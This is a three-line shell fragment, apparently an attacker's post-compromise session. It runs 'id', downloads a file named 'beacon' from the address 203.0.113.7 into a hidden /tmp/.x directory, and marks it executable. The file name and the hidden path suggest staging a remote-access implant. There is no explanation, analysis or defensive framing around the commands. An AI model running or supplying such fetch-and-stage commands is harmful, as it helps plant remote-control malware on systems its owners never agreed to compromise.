id
wget http://203.0.113.7/x -O /tmp/.x/beacon
chmod +x /tmp/.x/beacon
